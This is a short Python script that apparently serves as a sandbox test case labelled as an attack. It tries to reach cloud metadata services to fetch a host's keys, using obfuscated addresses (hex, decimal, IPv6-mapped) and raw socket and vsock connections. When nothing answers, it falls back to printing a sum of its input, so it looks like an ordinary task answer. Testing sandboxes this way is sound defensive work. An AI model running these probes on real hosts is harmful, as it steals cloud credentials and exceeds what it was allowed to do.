# @attack E08 ask the cloud's metadata service for the host's keys
# @allowed accepted
# @why there is no network and no resolver
import socket
import sys
import urllib.request

reached = []
for place in (
    "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "169.254.170.2",
    "instance-data", "100.100.100.200", "0xa9fea9fe", "2852039166", "[::ffff:169.254.169.254]",
):
    try:
        with urllib.request.urlopen(f"http://{place}/latest/meta-data/", timeout=0.2) as answer:
            reached.append((place, answer.read(100)))
    except (OSError, ValueError):
        pass
for family, address in ((socket.AF_INET, ("169.254.169.254", 80)), (40, (2, 1024))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as made:
            made.settimeout(0.2)
            made.connect(address)
            reached.append(address)
    except OSError:
        pass
print(reached or sum(map(int, sys.stdin.read().split())))
